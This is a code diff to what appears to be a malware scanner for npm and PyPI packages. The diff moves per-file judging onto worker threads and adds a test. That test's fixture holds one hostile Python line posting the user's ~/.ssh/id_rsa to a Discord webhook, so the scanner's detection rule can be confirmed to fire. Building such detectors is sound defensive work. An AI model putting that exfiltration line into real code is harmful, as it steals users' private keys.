@@ -169,43 +169,21 @@ pub fn analyze_path(path: &std::path::Path, limits: scioc_ingest::archive::Limit
 
 /// Analyses a package read with [`Package::read`] or [`Package::read_archive`].
 pub fn analyze(package: &Package) -> Analysis {
-    let mut per_file = Vec::new();
     let mut notes = Vec::new();
     let natives: Vec<String> =
         package.hashes.iter().map(|(p, _)| p.clone()).filter(|p| package::is_native(p)).collect();
     // What the package's name and manifest say: counted on each file that acts at install.
     let of_package: Vec<rules::Hit> = rules::PACKAGE.iter().filter_map(|(_, check)| check(package)).collect();
+    let threads = std::thread::available_parallelism().map_or(1, |n| n.get()).min(8);
+    let judged = judge_files(package, &natives, &of_package, threads);
     let mut package_counted = false;
-    for file in &package.files {
-        if file.truncated {
-            notes.push(format!("{}: longer than {} bytes; analysed in part", file.path, package::MAX_FILE));
+    let mut per_file = Vec::new();
+    for (i, j) in judged.into_iter().enumerate() {
+        notes.extend(j.notes);
+        if let Some((hits, score, behaviour, with_package)) = j.judged {
+            package_counted |= with_package;
+            per_file.push((&package.files[i], hits, score, behaviour));
         }
-        let place = Place {
-            install: file.kind == FileKind::NpmScript || package.install_files.contains(&file.path),
-            import: package.import_files.contains(&file.path),
-        };
-        // Tests, examples and documentation do not run at install or import: security tests
-        // are full of attack strings. They are read only when the install or import runs them.
-        if inert(&file.path) && !place.install && !place.import {
-            continue;
-        }
-        let facts = facts_of(file);
-        if let Some(e) = &facts.parse_error
-            && !facts.parsed
-        {
-            notes.push(format!("{}: not parsed ({}); read as text", file.path, e.lines().next().unwrap_or("")));
-        }
-        let mut hits = rules::check(&Ctx { file, facts: &facts, place, natives: &natives });
-        if hits.is_empty() {
-            continue;
-        }
-        if place.install && !of_package.is_empty() {
-            hits.extend(of_package.iter().cloned());
-            package_counted = true;
-        }
-        verdict::correlate(&mut hits, place);
-        let (score, behaviour) = verdict::score(&hits, place);
-        per_file.push((file, hits, score, behaviour));
     }
     // No file acts at install: the package's findings stand on its manifest alone.
     let manifest = SourceFile::new(&manifest_path(package), Vec::new(), false);
@@ -278,6 +256,92 @@ pub fn analyze(package: &Package) -> Analysis {
         indicators,
         notes,
     }
+}
+
+/// What one file came to: notes on how it was read, and its hits, score and behaviour (and
+/// whether the package-wide hits were counted on it) when any rule matched.
+struct Judged {
+    notes: Vec<String>,
+    judged: Option<(Vec<rules::Hit>, u32, Option<scioc_model::Behaviour>, bool)>,
+}
+
+/// Below this many bytes of code a package's files are judged on the calling thread.
+const PARALLEL_FROM: usize = 512 * 1024;
+
+/// Judges every file of the package, in the archive's order, on `threads` threads (the
+/// machine's cores, at most 8) once the package holds enough code to be worth it: parsing
+/// dominates, and files are independent until their findings are weighed together.
+fn judge_files(package: &Package, natives: &[String], of_package: &[rules::Hit], threads: usize) -> Vec<Judged> {
+    let judge = |file: &SourceFile| judge_file(package, file, natives, of_package);
+    let bytes: usize = package.files.iter().map(|f| f.text.len()).sum();
+    if threads < 2 || bytes < PARALLEL_FROM || package.files.len() < 2 {
+        return package.files.iter().map(judge).collect();
+    }
+    let next = std::sync::atomic::AtomicUsize::new(0);
+    let mut done: Vec<(usize, Judged)> = std::thread::scope(|scope| {
+        let workers: Vec<_> = (0..threads)
+            .map(|_| {
+                scope.spawn(|| {
+                    let mut mine = Vec::new();
+                    loop {
+                        let i = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+                        let Some(file) = package.files.get(i) else { break mine };
+                        mine.push((i, judge(file)));
+                    }
+                })
+            })
+            .collect();
+        // A worker that panicked (a parser bug) loses only its own files' findings, as the
+        // sequential path would lose the whole analysis; the others' stand.
+        workers.into_iter().flat_map(|w| w.join().unwrap_or_default()).collect()
+    });
+    done.sort_by_key(|(i, _)| *i);
+    let mut out: Vec<Judged> = Vec::with_capacity(package.files.len());
+    let mut done = done.into_iter().peekable();
+    for i in 0..package.files.len() {
+        match done.next_if(|(j, _)| *j == i) {
+            Some((_, j)) => out.push(j),
+            None => out.push(Judged {
+                notes: vec![format!("{}: the analyser failed on this file; not analysed", package.files[i].path)],
+                judged: None,
+            }),
+        }
+    }
+    out
+}
+
+/// Reads one file's facts, matches the rules and weighs what matched where the file runs.
+fn judge_file(package: &Package, file: &SourceFile, natives: &[String], of_package: &[rules::Hit]) -> Judged {
+    let mut notes = Vec::new();
+    if file.truncated {
+        notes.push(format!("{}: longer than {} bytes; analysed in part", file.path, package::MAX_FILE));
+    }
+    let place = Place {
+        install: file.kind == FileKind::NpmScript || package.install_files.contains(&file.path),
+        import: package.import_files.contains(&file.path),
+    };
+    // Tests, examples and documentation do not run at install or import: security tests are
+    // full of attack strings. They are read only when the install or import runs them.
+    if inert(&file.path) && !place.install && !place.import {
+        return Judged { notes, judged: None };
+    }
+    let facts = facts_of(file);
+    if let Some(e) = &facts.parse_error
+        && !facts.parsed
+    {
+        notes.push(format!("{}: not parsed ({}); read as text", file.path, e.lines().next().unwrap_or("")));
+    }
+    let mut hits = rules::check(&Ctx { file, facts: &facts, place, natives });
+    if hits.is_empty() {
+        return Judged { notes, judged: None };
+    }
+    let with_package = place.install && !of_package.is_empty();
+    if with_package {
+        hits.extend(of_package.iter().cloned());
+    }
+    verdict::correlate(&mut hits, place);
+    let (score, behaviour) = verdict::score(&hits, place);
+    Judged { notes, judged: Some((hits, score, behaviour, with_package)) }
 }
 
 /// The manifest's path in the archive: `package.json`, `PKG-INFO`, a wheel's `METADATA`, …
@@ -380,4 +444,38 @@ pub(crate) fn inert(path: &str) -> bool {
 fn one_line(s: &str) -> String {
     let line: String = s.chars().map(|c| if c.is_control() { ' ' } else { c }).take(EXCERPT).collect();
     if s.chars().count() > EXCERPT { format!("{line}…") } else { line }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Files judged on many threads come back in the archive's order with the same findings
+    /// and notes as on one.
+    #[test]
+    fn judging_on_threads_keeps_the_order_and_the_findings() {
+        let filler = "def f(x):\n    return x + 1\n".repeat(2_000);
+        let mut files = Vec::new();
+        for i in 0..40 {
+            let text = match i % 10 {
+                3 => "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n".to_owned(),
+                7 => "print 'python 2'\n".to_owned(),
+                _ => filler.clone(),
+            };
+            files.push(SourceFile::new(&format!("pkg/m{i:02}.py"), text.into_bytes(), false));
+        }
+        let package = Package::new("t".into(), package::Ecosystem::PyPI, files);
+        type Summary = (Vec<String>, Option<(Vec<&'static str>, u32)>);
+        let summary = |js: Vec<Judged>| -> Vec<Summary> {
+            js.into_iter()
+                .map(|j| (j.notes, j.judged.map(|(h, s, _, _)| (h.iter().map(|h| h.rule.id).collect(), s))))
+                .collect()
+        };
+        let one = summary(judge_files(&package, &[], &[], 1));
+        let four = summary(judge_files(&package, &[], &[], 4));
+        assert_eq!(one.len(), 40);
+        assert!(one[3].1.as_ref().is_some_and(|(rules, _)| rules.contains(&"SA-014")), "{:?}", one[3]);
+        assert!(one[7].0.iter().any(|n| n.contains("not parsed")), "{:?}", one[7]);
+        assert_eq!(one, four);
+    }
 }
